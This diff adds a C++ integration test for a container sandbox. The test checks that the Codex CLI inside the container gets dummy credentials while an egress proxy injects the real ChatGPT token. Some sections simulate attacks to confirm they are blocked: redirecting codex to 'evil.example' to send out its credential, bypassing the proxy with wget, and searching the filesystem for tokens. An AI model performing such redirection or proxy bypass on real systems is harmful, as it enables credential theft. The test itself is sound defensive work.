@@ -1,0 +1,173 @@
+// Credential forwarding end to end, with real parts: a Docker bottle running the real
+// codex CLI (npm @openai/codex, in bottle-test-codex), egress (real mitmproxy in its
+// sidecar), a stand-in parent proxy in pipelock's place and a fake HTTPS upstream
+// posing as chatgpt.com (fake_net.py). The parent proxy listens on the host side of
+// Docker's default bridge, the only address the egress container can reach it on.
+// Token values never appear in assertions' output: checks compare booleans.
+#include <catch2/catch.hpp>
+
+#include <boost/json.hpp>
+#include <ctime>
+
+#include "bottle/base64url.hpp"
+#include "cli_harness.hpp"
+#include "net_harness.hpp"
+
+using namespace net_harness;
+
+namespace {
+
+constexpr const char* codex_image = "bottle-test-codex:latest";
+
+std::string fake_jwt(const boost::json::object& payload) {
+  return bottle::base64url_encode(R"({"alg":"RS256","typ":"JWT"})") + "." +
+         bottle::base64url_encode(boost::json::serialize(payload)) + "." + bottle::base64url_encode("signature");
+}
+
+struct HostLogin {
+  std::string access_token;
+  std::string refresh_token = "real-refresh-token-for-the-test";
+};
+
+// A host ~/.codex/auth.json as `codex login` leaves it.
+HostLogin write_host_codex_login(const fs::path& codex_home) {
+  fs::create_directories(codex_home);
+  const std::int64_t now = std::time(nullptr);
+  const boost::json::object auth{{"chatgpt_account_id", "acct-e2e"}, {"chatgpt_plan_type", "plus"},
+                                 {"chatgpt_user_id", "user-e2e"}};
+  HostLogin login;
+  login.access_token = fake_jwt({{"exp", now + 3 * 86400}, {"iat", now}, {"https://api.openai.com/auth", auth},
+                                 {"jti", "real-" + std::to_string(now)}});
+  const std::string id_token =
+      fake_jwt({{"exp", now + 3600}, {"iat", now}, {"email", "dev@example.com"}, {"https://api.openai.com/auth", auth}});
+  const boost::json::object file{
+      {"auth_mode", "chatgpt"},
+      {"OPENAI_API_KEY", nullptr},
+      {"tokens", {{"id_token", id_token}, {"access_token", login.access_token},
+                  {"refresh_token", login.refresh_token}, {"account_id", "acct-e2e"}}},
+      {"last_refresh", "2026-11-26T10:00:00Z"}};
+  write_file(codex_home / "auth.json", boost::json::serialize(file));
+  fs::permissions(codex_home / "auth.json", fs::perms::owner_read | fs::perms::owner_write);
+  return login;
+}
+
+std::vector<boost::json::object> upstream_requests(const fs::path& log) {
+  std::vector<boost::json::object> records;
+  std::istringstream lines(read_file(log));
+  for (std::string line; std::getline(lines, line);) records.push_back(boost::json::parse(line).as_object());
+  return records;
+}
+
+std::string header(const boost::json::object& record, const std::string& lower_name) {
+  for (const auto& [key, value] : record.at("headers").as_object()) {
+    std::string k(key);
+    std::transform(k.begin(), k.end(), k.begin(), [](unsigned char c) { return std::tolower(c); });
+    if (k == lower_name) return std::string(value.as_string());
+  }
+  return {};
+}
+
+std::string docker_bridge_gateway() {
+  bottle::SystemRunner r;
+  std::string gw = r.run({.argv = {"docker", "network", "inspect", "bridge", "-f",
+                                   "{{(index .IPAM.Config 0).Gateway}}"}}).out;
+  return gw.substr(0, gw.find('\n'));
+}
+
+struct BottleCleanup {
+  IntegrationHome& home;
+  std::string name;
+  ~BottleCleanup() { home.cli({"rm", "--force", name}); }
+};
+
+}  // namespace
+
+TEST_CASE("forwarding: real codex in a Docker bottle is logged in with dummies; egress injects the real token",
+          "[forwarding][integration]") {
+  IntegrationHome home;
+  const fs::path& d = home.path();
+  make_certs(d);
+  const HostLogin login = write_host_codex_login(d / "codex-home");
+
+  const std::string gateway = docker_bridge_gateway();
+  REQUIRE_FALSE(gateway.empty());
+  ::setenv("FAKE_NET_BIND", gateway.c_str(), 1);
+  Daemon net({"python3", fake_net_script(), "serve", (d / "server.pem").string(), (d / "server.key").string(),
+              (d / "ports.json").string(), (d / "upstream.log").string(), (d / "parent.log").string()},
+             d / "fake_net.out");
+  ::unsetenv("FAKE_NET_BIND");
+  REQUIRE(wait_until([&] { return fs::exists(d / "ports.json"); }, 20s));
+  const auto parent_port = boost::json::parse(read_file(d / "ports.json")).as_object().at("parent").as_int64();
+  const std::string parent = gateway + ":" + std::to_string(parent_port);
+
+  home.env()["CODEX_HOME"] = (d / "codex-home").string();
+  home.env()["BOTTLE_EGRESS_UPSTREAM"] = "http://" + parent;
+  home.env()["BOTTLE_EGRESS_UPSTREAM_CA"] = (d / "ca.pem").string();
+  const std::string name = unique_bottle_name("it-fwd");
+  BottleCleanup cleanup{home, name};
+  auto r = home.cli({"create", "--name", name, "--agent", "codex", "--image", codex_image,
+                     "--forward-host-credentials"});
+  INFO(r.err);
+  REQUIRE(r.ok());
+  CHECK_THAT(home.cli({"ls", "--json"}).out, Catch::Contains("\"egress\":\"on\""));
+
+  // The bottle holds a dummy that carries the real token's exp, never the token.
+  r = home.cli({"exec", name, "--", "cat", ".codex/auth.json"});
+  REQUIRE(r.ok());
+  const auto bottle_auth = boost::json::parse(r.out).as_object();
+  const std::string dummy(bottle_auth.at("tokens").at("access_token").as_string());
+  CHECK(dummy != login.access_token);
+  CHECK(r.out.find(login.access_token) == std::string::npos);
+  CHECK(r.out.find(login.refresh_token) == std::string::npos);
+
+  SECTION("codex's own requests arrive upstream with the real token") {
+    r = home.cli({"exec", name, "--", "timeout", "60", "codex", "exec", "--skip-git-repo-check", "say hi"});
+    const auto requests = upstream_requests(d / "upstream.log");
+    REQUIRE_FALSE(requests.empty());
+    int with_real = 0, with_dummy = 0;
+    for (const auto& rec : requests) {
+      const std::string auth = header(rec, "authorization");
+      with_real += auth == "Bearer " + login.access_token ? 1 : 0;
+      with_dummy += auth.find(dummy) != std::string::npos ? 1 : 0;
+    }
+    CHECK(with_real > 0);
+    CHECK(with_dummy == 0);
+    CHECK_THAT(read_file(d / "parent.log"), Catch::Contains("CONNECT chatgpt.com:443"));
+  }
+
+  SECTION("the same dummy sent by codex to an unbound host is blocked and never reaches upstream") {
+    home.cli({"exec", name, "--", "timeout", "40", "codex", "exec", "--skip-git-repo-check", "-c",
+              "chatgpt_base_url=\"https://evil.example/backend-api/\"", "say hi"});
+    // Requests without a credential may pass; none carrying it (dummy or real) does.
+    for (const auto& rec : upstream_requests(d / "upstream.log")) {
+      if (header(rec, "host") != "evil.example") continue;
+      const std::string seen = boost::json::serialize(rec);
+      CHECK(seen.find(dummy) == std::string::npos);
+      CHECK(seen.find(login.access_token) == std::string::npos);
+    }
+    bottle::SystemRunner runner;
+    const std::string egress_log =
+        runner.run({.argv = {"docker", "logs", "bottle-" + name + "-egress"}}).err;
+    CHECK_THAT(egress_log, Catch::Contains("\"host\": \"evil.example\"") && Catch::Contains("\"blocked\""));
+    CHECK(egress_log.find(login.access_token) == std::string::npos);
+    CHECK(egress_log.find(dummy) == std::string::npos);
+  }
+
+  SECTION("a direct connection from the bottle to anything but egress fails") {
+    r = home.cli({"exec", name, "--", "sh", "-c",
+                  "env -u https_proxy -u HTTPS_PROXY -u http_proxy -u HTTP_PROXY timeout 5 wget -q -O- http://" +
+                      parent + "/ && echo REACHED; true"});
+    CHECK_THAT(r.out, !Catch::Contains("REACHED"));
+  }
+
+  SECTION("no real token anywhere in the bottle's filesystem or environment") {
+    // The token travels on stdin, so it is in no argv on the host either.
+    const std::string search =
+        "read -r t; grep -rlF \"$t\" /bin /etc /home /root /tmp /usr /var /run 2>/dev/null; "
+        "env | grep -cF \"$t\"; true";
+    r = home.cli({"exec", "--user", "root", name, "--", "sh", "-c", search}, login.access_token + "\n");
+    CHECK(r.out == "0\n");
+    r = home.cli({"exec", "--user", "root", name, "--", "sh", "-c", search}, login.refresh_token + "\n");
+    CHECK(r.out == "0\n");
+  }
+}
